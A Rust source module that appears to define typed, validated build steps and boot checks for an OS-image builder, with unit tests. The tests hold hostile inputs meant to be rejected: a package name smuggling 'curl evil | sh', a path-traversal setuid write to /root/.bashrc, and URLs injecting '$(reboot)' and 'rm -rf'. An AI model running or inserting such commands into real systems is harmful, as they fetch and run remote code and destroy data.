//! Typed build steps and boot checks: the vocabulary of a plan.
//!
//! These mirror the WIT `step` and `check-kind` variants one to one. Steps are
//! data, never shell strings; the build executor gives each its meaning:
//!
//! | step | executor's meaning (inside the image root, never on the host) |
//! |---|---|
//! | `install_packages` | `apt-get install --no-install-recommends`, services not started |
//! | `remove_packages` | `apt-get purge` |
//! | `write_file` | write with mode/owner, parents created `root:root 0755` |
//! | `enable_service` / `disable_service` / `mask_service` | `systemctl enable/disable/mask` |
//! | `add_group` | ensure the group exists |
//! | `add_user` | ensure the user exists; groups are appended |
//! | `set_sysctl` | a line in `/etc/sysctl.d/90-openfactory.conf` |
//! | `open_port` | an allow rule in `/etc/nftables.d/`; effective with the `firewall` feature |
//! | `add_kernel_arg` | appended to the boot loader's kernel command line |
//! | `add_apt_source` | a deb822 file in `/etc/apt/sources.list.d/` with its key |
//! | `run` | argv executed in the chroot: the last resort |

use std::fmt;

use schemars::JsonSchema;
use serde::{Deserialize, Serialize};

use crate::recipe::Protocol;
use crate::rules;

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum Step {
    InstallPackages {
        packages: Vec<String>,
    },
    RemovePackages {
        packages: Vec<String>,
    },
    WriteFile(FileStep),
    EnableService {
        unit: String,
    },
    DisableService {
        unit: String,
    },
    MaskService {
        unit: String,
    },
    AddGroup {
        name: String,
        system: bool,
    },
    AddUser(UserStep),
    SetSysctl {
        key: String,
        value: String,
    },
    OpenPort {
        port: u16,
        protocol: Protocol,
    },
    AddKernelArg {
        arg: String,
    },
    AddAptSource(AptSource),
    Run {
        argv: Vec<String>,
        description: String,
    },
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct FileStep {
    pub path: String,
    /// Permission bits (e.g. 420 = 0o644).
    pub mode: u32,
    pub owner: String,
    pub group: String,
    pub content: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct UserStep {
    pub name: String,
    pub groups: Vec<String>,
    pub shell: Option<String>,
    pub system: bool,
    /// A crypt(3) hash from the recipe. Plugins cannot set passwords.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub password_hash: Option<String>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
pub struct AptSource {
    pub name: String,
    pub uris: Vec<String>,
    pub suites: Vec<String>,
    pub components: Vec<String>,
    /// ASCII-armoured OpenPGP key.
    pub signed_by: String,
}

/// What a boot check asserts inside the booted image.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, JsonSchema)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum CheckKind {
    UnitActive {
        unit: String,
    },
    CommandSucceeds {
        argv: Vec<String>,
    },
    PortOpen {
        port: u16,
        protocol: Protocol,
    },
    FileExists {
        path: String,
    },
    PackageInstalled {
        package: String,
    },
    /// An HTTP GET inside the guest answers 2xx or 3xx. User tests only (the
    /// plugin contract has no such check yet).
    HttpGet {
        url: String,
    },
}

/// Largest file content a step may carry.
/// The longest description a step or a boot check may carry.
pub const MAX_DESCRIPTION_CHARS: usize = 200;

pub const MAX_FILE_BYTES: usize = 1024 * 1024;

impl Step {
    /// The step's kind as it appears in plans: `install_packages`.
    pub fn kind(&self) -> &'static str {
        match self {
            Step::InstallPackages { .. } => "install_packages",
            Step::RemovePackages { .. } => "remove_packages",
            Step::WriteFile(_) => "write_file",
            Step::EnableService { .. } => "enable_service",
            Step::DisableService { .. } => "disable_service",
            Step::MaskService { .. } => "mask_service",
            Step::AddGroup { .. } => "add_group",
            Step::AddUser(_) => "add_user",
            Step::SetSysctl { .. } => "set_sysctl",
            Step::OpenPort { .. } => "open_port",
            Step::AddKernelArg { .. } => "add_kernel_arg",
            Step::AddAptSource(_) => "add_apt_source",
            Step::Run { .. } => "run",
        }
    }

    /// Check the step against the same rules recipes obey. Returns every
    /// problem as `(field, reason)`.
    pub fn check(&self) -> Vec<(String, String)> {
        let mut problems = Vec::new();
        let mut rule = |field: &str, result: Result<(), String>| {
            if let Err(reason) = result {
                problems.push((field.to_owned(), reason));
            }
        };
        match self {
            Step::InstallPackages { packages } | Step::RemovePackages { packages } => {
                if packages.is_empty() {
                    rule("packages", Err("is empty".into()));
                }
                for (i, p) in packages.iter().enumerate() {
                    rule(&format!("packages[{i}]"), rules::package_name(p));
                }
            }
            Step::WriteFile(f) => {
                rule("path", rules::image_path(&f.path));
                rule("owner", rules::account_name(&f.owner));
                rule("group", rules::account_name(&f.group));
                if f.mode > 0o777 {
                    rule(
                        "mode",
                        Err(format!(
                            "{:o} sets setuid, setgid or sticky bits, which steps may not",
                            f.mode
                        )),
                    );
                }
                if f.content.len() > MAX_FILE_BYTES {
                    rule(
                        "content",
                        Err(format!(
                            "is {} bytes; the limit is {MAX_FILE_BYTES}",
                            f.content.len()
                        )),
                    );
                }
            }
            Step::EnableService { unit }
            | Step::DisableService { unit }
            | Step::MaskService { unit } => {
                rule("unit", rules::unit_name(unit));
            }
            Step::AddGroup { name, .. } => rule("name", rules::account_name(name)),
            Step::AddUser(u) => {
                rule("name", rules::account_name(&u.name));
                for (i, g) in u.groups.iter().enumerate() {
                    rule(&format!("groups[{i}]"), rules::account_name(g));
                }
                if let Some(shell) = &u.shell {
                    rule("shell", rules::shell_path(shell));
                }
                if let Some(hash) = &u.password_hash {
                    rule("password_hash", rules::password_hash(hash));
                }
            }
            Step::SetSysctl { key, value } => {
                rule("key", rules::sysctl_key(key));
                rule("value", rules::sysctl_value(value));
            }
            Step::OpenPort { port, .. } => {
                if *port == 0 {
                    rule("port", Err("must be between 1 and 65535".into()));
                }
            }
            Step::AddKernelArg { arg } => rule("arg", rules::kernel_arg(arg)),
            Step::AddAptSource(s) => {
                rule("name", rules::slug(&s.name));
                if s.uris.is_empty() {
                    rule("uris", Err("is empty".into()));
                }
                for (i, u) in s.uris.iter().enumerate() {
                    rule(&format!("uris[{i}]"), rules::repository_uri(u));
                }
                for (i, w) in s.suites.iter().enumerate() {
                    rule(&format!("suites[{i}]"), rules::deb822_word(w));
                }
                for (i, w) in s.components.iter().enumerate() {
                    rule(&format!("components[{i}]"), rules::deb822_word(w));
                }
                if !s.signed_by.contains("-----BEGIN PGP PUBLIC KEY BLOCK-----") {
                    rule(
                        "signed_by",
                        Err("must be an ASCII-armoured OpenPGP public key".into()),
                    );
                }
            }
            Step::Run { argv, description } => {
                rule("argv", rules::command_argv(argv));
                rule(
                    "description",
                    rules::plain_text(description, MAX_DESCRIPTION_CHARS),
                );
            }
        }
        problems
    }
}

impl CheckKind {
    pub fn check(&self) -> Vec<(String, String)> {
        let result = match self {
            CheckKind::UnitActive { unit } => rules::unit_name(unit).map_err(|r| ("unit", r)),
            CheckKind::CommandSucceeds { argv } => {
                rules::command_argv(argv).map_err(|r| ("argv", r))
            }
            CheckKind::PortOpen { port, .. } if *port == 0 => {
                Err(("port", "must be between 1 and 65535".into()))
            }
            CheckKind::PortOpen { .. } => Ok(()),
            CheckKind::FileExists { path } => {
                if path.starts_with('/')
                    && !path.split('/').any(|c| c == "..")
                    && !path.contains('\0')
                {
                    Ok(())
                } else {
                    Err(("path", "must be an absolute path without `..`".into()))
                }
            }
            CheckKind::PackageInstalled { package } => {
                rules::package_name(package).map_err(|r| ("package", r))
            }
            CheckKind::HttpGet { url } => HttpUrl::parse(url).map(|_| ()).map_err(|r| ("url", r)),
        };
        result
            .err()
            .map(|(f, r)| vec![(f.to_owned(), r)])
            .unwrap_or_default()
    }
}

impl fmt::Display for Step {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Step::InstallPackages { packages } => write!(f, "install {}", packages.join(" ")),
            Step::RemovePackages { packages } => write!(f, "remove {}", packages.join(" ")),
            Step::WriteFile(file) => write!(
                f,
                "write {} ({:04o} {}:{}, {} bytes)",
                file.path,
                file.mode,
                file.owner,
                file.group,
                file.content.len()
            ),
            Step::EnableService { unit } => write!(f, "enable {unit}"),
            Step::DisableService { unit } => write!(f, "disable {unit}"),
            Step::MaskService { unit } => write!(f, "mask {unit}"),
            Step::AddGroup { name, system } => {
                write!(f, "group {name}{}", if *system { " (system)" } else { "" })
            }
            Step::AddUser(u) => {
                write!(f, "user {}", u.name)?;
                if u.system {
                    write!(f, " (system)")?;
                }
                if !u.groups.is_empty() {
                    write!(f, " groups={}", u.groups.join(","))?;
                }
                if let Some(shell) = &u.shell {
                    write!(f, " shell={shell}")?;
                }
                if u.password_hash.is_some() {
                    write!(f, " (password hash set)")?;
                }
                Ok(())
            }
            Step::SetSysctl { key, value } => write!(f, "sysctl {key} = {value}"),
            Step::OpenPort { port, protocol } => write!(f, "open port {port}/{protocol}"),
            Step::AddKernelArg { arg } => write!(f, "kernel arg {arg}"),
            Step::AddAptSource(s) => {
                write!(
                    f,
                    "apt source {} ({} {})",
                    s.name,
                    s.uris.join(" "),
                    s.suites.join(" ")
                )
            }
            Step::Run { argv, description } => {
                write!(f, "run {} # {description}", shell_words(argv))
            }
        }
    }
}

impl fmt::Display for CheckKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            CheckKind::UnitActive { unit } => write!(f, "unit {unit} is active"),
            CheckKind::CommandSucceeds { argv } => write!(f, "`{}` succeeds", shell_words(argv)),
            CheckKind::PortOpen { port, protocol } => write!(f, "port {port}/{protocol} is open"),
            CheckKind::FileExists { path } => write!(f, "{path} exists"),
            CheckKind::PackageInstalled { package } => write!(f, "package {package} is installed"),
            CheckKind::HttpGet { url } => write!(f, "GET {url} succeeds"),
        }
    }
}

/// Render argv for people, quoting what a shell would split.
pub fn shell_words(argv: &[String]) -> String {
    argv.iter()
        .map(|a| {
            if !a.is_empty()
                && a.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "-_./=:,+@%".contains(c))
            {
                a.clone()
            } else {
                format!("'{}'", a.replace('\'', r"'\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hostile_steps_are_caught() {
        let smuggled = Step::InstallPackages {
            packages: vec!["vim; curl evil | sh".into()],
        };
        assert_eq!(smuggled.check().len(), 1);
        let escape = Step::WriteFile(FileStep {
            path: "/etc/../../root/.bashrc".into(),
            mode: 0o4755,
            owner: "root".into(),
            group: "root".into(),
            content: String::new(),
        });
        let fields: Vec<_> = escape.check().into_iter().map(|(f, _)| f).collect();
        assert_eq!(fields, ["path", "mode"]);
        let run = Step::Run {
            argv: vec!["sh -c 'id'".into()],
            description: String::new(),
        };
        assert_eq!(run.check().len(), 1);
        assert!(
            Step::EnableService {
                unit: "ssh.service".into()
            }
            .check()
            .is_empty()
        );
    }

    #[test]
    fn steps_serialise_with_a_type_tag() {
        let step = Step::EnableService {
            unit: "ssh.service".into(),
        };
        let json = serde_json::to_value(&step).unwrap();
        assert_eq!(
            json,
            serde_json::json!({"type": "enable_service", "unit": "ssh.service"})
        );
        assert_eq!(serde_json::from_value::<Step>(json).unwrap(), step);
    }

    #[test]
    fn display_quotes_arguments() {
        let run = Step::Run {
            argv: vec!["sed".into(), "-i".into(), "s/a b/c/".into()],
            description: "x".into(),
        };
        assert_eq!(run.to_string(), "run sed -i 's/a b/c/' # x");
    }
}

/// A plain-HTTP URL as an `http_get` check may name: a host (name or IPv4),
/// an optional port and a path, all of characters that need no quoting.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct HttpUrl {
    pub host: String,
    pub port: u16,
    /// Starts with `/`.
    pub path: String,
}

impl HttpUrl {
    pub fn parse(url: &str) -> Result<HttpUrl, String> {
        let rest = url.strip_prefix("http://").ok_or_else(|| {
            "must start with http:// (e.g. http://127.0.0.1:9100/metrics; https is not supported)"
                .to_owned()
        })?;
        let (authority, path) = match rest.find('/') {
            Some(i) => (&rest[..i], &rest[i..]),
            None => (rest, "/"),
        };
        let (host, port) = match authority.rsplit_once(':') {
            Some((host, port)) => (
                host,
                port.parse::<u16>()
                    .ok()
                    .filter(|p| *p > 0)
                    .ok_or_else(|| format!("port `{}` must be 1 to 65535", truncate(port, 8)))?,
            ),
            None => (authority, 80),
        };
        if host.is_empty()
            || host.len() > 253
            || !host
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
        {
            return Err(
                "the host must be a name or an IPv4 address (letters, digits, `.`, `-`)".into(),
            );
        }
        if path.len() > 1024
            || !path
                .chars()
                .all(|c| c.is_ascii_graphic() && !matches!(c, '"' | '\\' | '`' | '$'))
        {
            return Err("the path must be at most 1024 printable characters, without spaces, quotes, `\\`, `` ` `` or `$`".into());
        }
        Ok(HttpUrl {
            host: host.to_owned(),
            port,
            path: path.to_owned(),
        })
    }
}

fn truncate(s: &str, max: usize) -> String {
    rules::truncate(s, max)
}

#[cfg(test)]
mod http_url_tests {
    use super::*;

    #[test]
    fn http_urls_parse_and_hostile_ones_do_not() {
        assert_eq!(
            HttpUrl::parse("http://127.0.0.1:9100/metrics").unwrap(),
            HttpUrl {
                host: "127.0.0.1".into(),
                port: 9100,
                path: "/metrics".into()
            }
        );
        assert_eq!(HttpUrl::parse("http://localhost").unwrap().path, "/");
        for bad in [
            "https://x/",
            "ftp://x",
            "http://x:0/",
            "http://x:99999/",
            "http://a b/",
            "http://x/$(reboot)",
            "http://x/a b",
            "http://x/\"q",
            "http://;rm -rf/",
        ] {
            assert!(HttpUrl::parse(bad).is_err(), "{bad}");
        }
    }
}
